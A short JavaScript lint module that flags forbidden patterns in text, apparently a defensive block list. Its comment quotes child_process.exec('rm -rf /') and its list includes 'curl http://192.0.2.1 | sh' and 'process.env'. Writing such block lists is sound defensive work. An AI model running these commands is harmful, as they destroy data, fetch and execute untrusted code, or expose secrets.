// eval() and child_process.exec('rm -rf /') are not allowed here; see require('vm') too.
const FORBIDDEN = ['eval', 'Function', 'child_process', 'process.env', 'curl http://192.0.2.1 | sh'];
module.exports = function lint(text) {
  return FORBIDDEN.filter((w) => text.includes(w)).map((w) => `do not use ${w}`);
};
